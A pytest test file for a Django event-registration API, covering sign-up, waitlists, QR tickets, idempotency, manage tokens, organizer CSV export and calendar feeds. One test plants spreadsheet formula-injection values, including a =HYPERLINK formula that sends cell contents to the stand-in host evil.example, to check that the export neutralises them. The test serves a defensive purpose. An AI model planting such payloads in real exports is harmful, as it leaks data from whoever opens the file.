import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.core import mail
from django.utils import timezone

from common.models import IdempotencyKey
from events.models import Event, Question
from registrations import services
from registrations.models import Registration
from registrations.tickets import parse_ticket_code
from tests.factories import EventFactory, MembershipFactory, QuestionFactory, RegistrationFactory, UserFactory
from tests.qr import decode_qr
from tests.registrations.conftest import path_of, token_of, url


@pytest.fixture
def event(db):
    event = EventFactory(capacity=1, max_guests=2)
    QuestionFactory(
        event=event,
        key="nationality",
        kind=Question.Kind.CHOICE,
        required=True,
        choices=[{"value": "cn", "label": {"en": "China"}}, {"value": "jp", "label": {"en": "Japan"}}],
    )
    return event


def payload(**overrides):
    data = {
        "name": "Li Na",
        "email": "lina@example.org",
        "language": "zh-hans",
        "answers": {"nationality": "cn"},
        "consents": {"privacy": True},
    }
    data.update(overrides)
    return data


def test_register_confirmed_with_ticket_and_calendar(api_client, event):
    response = api_client.post(url(event), payload(), format="json")
    assert response.status_code == 201, response.json()
    body = response.json()
    assert body["status"] == "confirmed"
    assert body["ticket_url"] and body["calendar_url"] and body["manage_url"]
    assert body["consents"]["privacy"]["agreed"] is True and body["consents"]["privacy"]["language"] == "zh-hans"
    [ticket] = body["tickets"]
    assert parse_ticket_code(ticket["code"]) == Registration.objects.get().tickets.get().pk

    png = api_client.get(path_of(body["ticket_url"]))
    assert png.status_code == 200 and png["Content-Type"] == "image/png"
    assert decode_qr(png.content) == [ticket["code"]]
    svg = api_client.get(path_of(ticket["svg_url"]))
    assert svg.status_code == 200 and b"<svg" in svg.content

    ics = api_client.get(path_of(body["calendar_url"]))
    assert ics.status_code == 200 and ics["Content-Type"].startswith("text/calendar")
    # A download, not an invitation to reply to: the email carries the METHOD:REQUEST one.
    assert b"METHOD:PUBLISH" in ics.content and b"ATTENDEE" not in ics.content


def test_full_event_waitlists_and_has_no_ticket(api_client, event):
    api_client.post(url(event), payload(), format="json")
    response = api_client.post(url(event), payload(email="second@example.org"), format="json")
    body = response.json()
    assert response.status_code == 201
    assert body["status"] == "waitlisted" and body["waitlist_position"] == 1
    assert body["ticket_url"] is None and body["calendar_url"] is None and body["tickets"] == []
    token = token_of(body)
    ticket_path = f"/api/v1/registrations/{body['id']}/ticket.png"
    assert api_client.get(ticket_path, {"token": token}).status_code == 404


def test_duplicate_email_409_and_link_resent(api_client, event, django_capture_on_commit_callbacks):
    api_client.post(url(event), payload(), format="json")
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        response = api_client.post(url(event), payload(email="LiNa@example.org"), format="json")
    assert response.status_code == 409
    error = response.json()["error"]
    assert error["code"] == "already_registered" and "registration_id" not in error
    assert len(mail.outbox) == 1 and mail.outbox[0].to == ["lina@example.org"]
    assert Registration.objects.count() == 1


@pytest.mark.parametrize(
    ("data", "field"),
    [
        (payload(email="not-an-email"), "email"),
        (payload(email=None), "email"),
        (payload(name=""), "name"),
        (payload(answers={"nationality": "mars"}), "answers"),
        (payload(answers={}), "answers"),
        (payload(answers="cn"), "answers"),
        (payload(language="klingon"), "language"),
        (payload(guests=["a", "b", "c"]), "guests"),
        (payload(guests="Bob"), "guests"),
        (payload(consents={"privacy": "maybe"}), "consents"),
        (payload(name="x" * 201), "name"),
    ],
)
def test_bad_input_is_400_per_field_and_writes_nothing(api_client, event, data, field):
    response = api_client.post(url(event), data, format="json")
    assert response.status_code == 400, response.json()
    assert field in response.json()["error"]["fields"]
    assert not Registration.objects.exists()


def test_non_object_body_is_400(api_client, event):
    response = api_client.post(url(event), [1, 2], format="json")
    assert response.status_code == 400
    response = api_client.post(url(event), "{not json", content_type="application/json")
    assert response.status_code == 400


def test_closed_and_unknown_events(api_client, event):
    assert api_client.post("/api/v1/events/nope/registrations/", payload(), format="json").status_code == 404
    # Saved as the desk saves them: each change drops the event's cached registration form.
    event.status = Event.Status.DRAFT
    event.save(update_fields=["status"])
    assert api_client.post(url(event), payload(), format="json").status_code == 404
    event.status = Event.Status.CANCELLED
    event.save(update_fields=["status"])
    response = api_client.post(url(event), payload(), format="json")
    assert response.status_code == 409 and response.json()["error"]["code"] == "event_cancelled"
    event.status, event.registration_closes_at = Event.Status.PUBLISHED, timezone.now() - dt.timedelta(minutes=1)
    event.save(update_fields=["status", "registration_closes_at"])
    assert api_client.post(url(event), payload(), format="json").json()["error"]["code"] == "registration_closed"


def test_error_messages_in_the_requested_language(api_client, event):
    Event.objects.filter(pk=event.pk).update(status=Event.Status.CANCELLED)
    response = api_client.post(url(event), payload(), format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert "cancelled" in response.json()["error"]["message"]


def test_idempotency_key_replays_first_response(api_client, event):
    headers = {"HTTP_IDEMPOTENCY_KEY": "phone-abc-1"}
    first = api_client.post(url(event), payload(), format="json", **headers)
    again = api_client.post(url(event), payload(), format="json", **headers)
    assert first.status_code == again.status_code == 201
    assert again.json() == first.json() and again["Idempotent-Replayed"] == "true"
    assert Registration.objects.count() == 1
    other = api_client.post(url(event), payload(email="x@example.org"), format="json", **headers)
    assert other.status_code == 409 and other.json()["error"]["code"] == "idempotency_key_reused"
    assert IdempotencyKey.objects.count() == 1


@pytest.mark.parametrize(
    ("language", "expected"), [("en", "255 characters"), ("zh-hans", "255 个字符"), ("ja", "255文字")]
)
def test_a_bad_idempotency_key_is_a_400_in_the_reader_language(api_client, event, language, expected):
    response = api_client.post(
        url(event), payload(), format="json", HTTP_IDEMPOTENCY_KEY="k" * 256, HTTP_ACCEPT_LANGUAGE=language
    )
    assert response.status_code == 400
    assert expected in response.json()["error"]["fields"]["Idempotency-Key"][0]
    assert not Registration.objects.exists()


def test_idempotency_key_replays_refusals_too(api_client, event):
    Event.objects.filter(pk=event.pk).update(status=Event.Status.CANCELLED)
    headers = {"HTTP_IDEMPOTENCY_KEY": "k2"}
    first = api_client.post(url(event), payload(), format="json", **headers)
    again = api_client.post(url(event), payload(), format="json", **headers)
    assert first.status_code == again.status_code == 409


def test_manage_by_token_owner_or_organizer_only(api_client, event):
    body = api_client.post(url(event), payload(), format="json").json()
    detail = f"/api/v1/registrations/{body['id']}/"
    token = token_of(body)

    assert api_client.get(detail).status_code == 404
    assert api_client.get(detail, {"token": "wrong"}).status_code == 404
    assert api_client.get(detail, HTTP_X_MANAGE_TOKEN=token).json()["email"] == "lina@example.org"

    stranger = UserFactory()
    api_client.force_authenticate(stranger)
    assert api_client.get(detail).status_code == 404
    other_manager = MembershipFactory().user
    api_client.force_authenticate(other_manager)
    assert api_client.get(detail).status_code == 404
    organizer = MembershipFactory(organization=event.organization).user
    api_client.force_authenticate(organizer)
    assert api_client.get(detail).status_code == 200
    api_client.force_authenticate(None)

    waiting = api_client.post(url(event), payload(email="w@example.org"), format="json").json()
    response = api_client.delete(detail, HTTP_X_MANAGE_TOKEN=token)
    assert response.status_code == 200 and response.json()["status"] == "cancelled"
    promoted = Registration.objects.get(pk=waiting["id"])
    assert promoted.status == Registration.Status.CONFIRMED
    cancelled_ics = api_client.get(f"{detail}calendar.ics", {"token": token})
    assert b"METHOD:CANCEL" in cancelled_ics.content


def test_logged_in_user_registers_as_themselves(api_client, event):
    user = UserFactory(first_name="Kenji", last_name="Sato")
    api_client.force_authenticate(user)
    response = api_client.post(
        url(event), {"answers": {"nationality": "jp"}, "consents": {"privacy": True}}, format="json"
    )
    assert response.status_code == 201
    assert response.json()["email"] == user.email and response.json()["name"] == "Kenji Sato"
    assert api_client.get(f"/api/v1/registrations/{response.json()['id']}/").status_code == 200


def test_party_gets_a_ticket_each(api_client, event):
    event.capacity = 5
    event.save()
    response = api_client.post(url(event), payload(guests=["Wang Fang", "Li Lei"]), format="json")
    tickets = response.json()["tickets"]
    assert [t["name"] for t in tickets] == ["Li Na", "Wang Fang", "Li Lei"]
    assert len({t["code"] for t in tickets}) == 3
    png = api_client.get(path_of(tickets[2]["png_url"]))
    assert decode_qr(png.content) == [tickets[2]["code"]]


def test_paid_event_without_stripe_says_so(api_client, settings, db):
    settings.STRIPE_SECRET_KEY = ""
    event = EventFactory(price=Decimal("80"))
    response = api_client.post(url(event), payload(answers={}), format="json")
    assert response.status_code == 503
    assert response.json()["error"]["code"] == "payment_unavailable"


def test_organizer_list_filters_and_csv(api_client, db):
    event = EventFactory(capacity=10)
    QuestionFactory(event=event, key="nationality", kind="choice", choices=[{"value": "jp", "label": {}}])
    RegistrationFactory(event=event, name="山田 太郎", language="ja", answers={"nationality": "jp"})
    RegistrationFactory(event=event, name="Anna", status="waitlisted")
    RegistrationFactory(event=event, name="Carl", status="cancelled")
    RegistrationFactory()  # another event's
    organizer = MembershipFactory(organization=event.organization).user
    list_url = f"/api/v1/organizer/events/{event.slug}/registrations/"

    assert api_client.get(list_url).status_code == 401
    api_client.force_authenticate(MembershipFactory().user)
    assert api_client.get(list_url).status_code == 404
    api_client.force_authenticate(organizer)
    assert api_client.get(list_url).json()["count"] == 3
    assert [r["name"] for r in api_client.get(list_url, {"status": "waitlisted"}).json()["results"]] == ["Anna"]
    assert [r["name"] for r in api_client.get(list_url, {"language": "ja"}).json()["results"]] == ["山田 太郎"]
    assert [r["name"] for r in api_client.get(list_url, {"q": "carl"}).json()["results"]] == ["Carl"]
    assert api_client.get(list_url, {"status": "bogus"}).status_code == 400

    response = api_client.get(list_url.replace("registrations/", "registrations.csv"), {"status": "confirmed"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    lines = text.strip().splitlines()
    assert lines[0].startswith("id,status,name") and lines[0].endswith("answer:nationality")
    assert len(lines) == 2 and "山田 太郎" in lines[1] and lines[1].endswith(",jp")


@pytest.mark.parametrize("count", [3, 30])
def test_organizer_list_query_count_is_flat(api_client, django_assert_num_queries, db, count):
    event = EventFactory(capacity=100)
    for _ in range(count):
        RegistrationFactory(event=event)
    organizer = MembershipFactory(organization=event.organization).user
    api_client.force_authenticate(organizer)
    with django_assert_num_queries(5):  # role check, event (joined with membership), count, page, tickets
        response = api_client.get(f"/api/v1/organizer/events/{event.slug}/registrations/", {"page_size": 100})
    assert response.json()["count"] == count


def test_event_and_public_calendars(api_client, event):
    response = api_client.get(f"/api/v1/events/{event.slug}/calendar.ics")
    assert response.status_code == 200 and b"BEGIN:VEVENT" in response.content
    response = api_client.get("/api/v1/calendar.ics", {"kind": "event"})
    assert response.status_code == 200 and response.content.count(b"BEGIN:VEVENT") == 1
    assert api_client.get("/api/v1/calendar.ics", {"kind": "party"}).status_code == 400


def _feed_link(message) -> str:
    return re.findall(r"https?://\S+/api/v1/calendar/feeds/[\w-]+\.ics", message.body)[0]


def test_personal_feed_link_goes_only_to_the_address_and_can_be_rotated(
    api_client, db, django_capture_on_commit_callbacks
):
    first = EventFactory()
    second = EventFactory()
    EventFactory()
    mine = [api_client.post(url(e), payload(answers={}), format="json").json() for e in (first, second)]
    registration = Registration.objects.get(pk=mine[0]["id"])
    endpoint = f"/api/v1/registrations/{registration.pk}/calendar-feed/?token={registration.manage_token}"
    mail.outbox.clear()
    # Whoever holds a manage token may have typed someone else's address: the feed of the whole
    # address is never in a response, only in a mail to that address.
    with django_capture_on_commit_callbacks(execute=True):
        response = api_client.post(endpoint, {}, format="json")
    assert response.status_code == 202
    assert "/calendar/feeds/" not in response.content.decode()
    assert api_client.get(endpoint).status_code == 405
    [message] = mail.outbox
    assert message.to == [registration.email] and "webcal://" in message.body
    feed = _feed_link(message)
    ics = api_client.get(path_of(feed))
    assert ics.status_code == 200 and ics.content.count(b"BEGIN:VEVENT") == 2

    # Asked again (even to rotate) within the window: nothing sent, the link keeps working.
    with django_capture_on_commit_callbacks(execute=True):
        assert api_client.post(endpoint, {"rotate": True}, format="json").status_code == 202
    assert len(mail.outbox) == 1 and api_client.get(path_of(feed)).status_code == 200

    # Later, a rotation mails the new link and the old one stops at once.
    later = timezone.now() + dt.timedelta(minutes=11)
    with django_capture_on_commit_callbacks(execute=True):
        assert services.calendar_feed_send(registration_id=registration.pk, rotate=True, now=later)
    rotated = _feed_link(mail.outbox[-1])
    assert rotated != feed
    assert api_client.get(path_of(feed)).status_code == 404
    assert api_client.get(path_of(rotated)).status_code == 200
    assert api_client.post(endpoint, {"rotate": "maybe"}, format="json").status_code == 400


def test_no_feed_link_for_a_registration_that_is_not_confirmed(api_client, db):
    event = EventFactory(capacity=1)
    RegistrationFactory(event=event)
    waiting = api_client.post(url(event), payload(answers={}), format="json").json()
    assert waiting["status"] == "waitlisted"
    token = token_of(waiting)
    response = api_client.post(f"/api/v1/registrations/{waiting['id']}/calendar-feed/?token={token}")
    assert response.status_code == 409
    wrong = api_client.post(f"/api/v1/registrations/{waiting['id']}/calendar-feed/?token=wrong")
    assert wrong.status_code == 404  # ids must not be probed


def test_organizer_csv_neutralises_spreadsheet_formulas(api_client, db):
    """Names, addresses, guests and answers are typed by anyone who registers: none may run as a formula."""
    event = EventFactory(capacity=10, max_guests=1)
    QuestionFactory(event=event, key="note", kind="text")
    registration = RegistrationFactory(
        event=event,
        name='=HYPERLINK("http://evil.example/?"&A1,"click")',
        email="=cmd@example.org",
        answers={"note": "@SUM(1+1)"},
        party_size=2,
        tickets=False,
    )
    registration.tickets.create(position=0, name=registration.name)
    registration.tickets.create(position=1, name="+1-2")
    api_client.force_authenticate(MembershipFactory(organization=event.organization).user)
    response = api_client.get(f"/api/v1/organizer/events/{event.slug}/registrations.csv")
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert row["name"] == "'" + registration.name
    assert row["email"] == "'=cmd@example.org"
    assert row["guests"] == "'+1-2"
    assert row["answer:note"] == "'@SUM(1+1)"
    assert "no-store" in response["Cache-Control"]


def test_cancelling_after_the_event_is_a_409_in_the_attendees_language(api_client, db):
    event = EventFactory()
    registration = RegistrationFactory(event=event)
    event.sessions.update(
        starts_at=timezone.now() - dt.timedelta(hours=3), ends_at=timezone.now() - dt.timedelta(hours=1)
    )
    response = api_client.delete(
        f"/api/v1/registrations/{registration.pk}/?lang=zh-hans", HTTP_X_MANAGE_TOKEN=registration.manage_token
    )
    assert response.status_code == 409
    assert response.json()["error"]["code"] == "event_over"
    assert response.json()["error"]["message"] == "本活动已结束，报名无法再取消。"
    registration.refresh_from_db()
    assert registration.status == Registration.Status.CONFIRMED
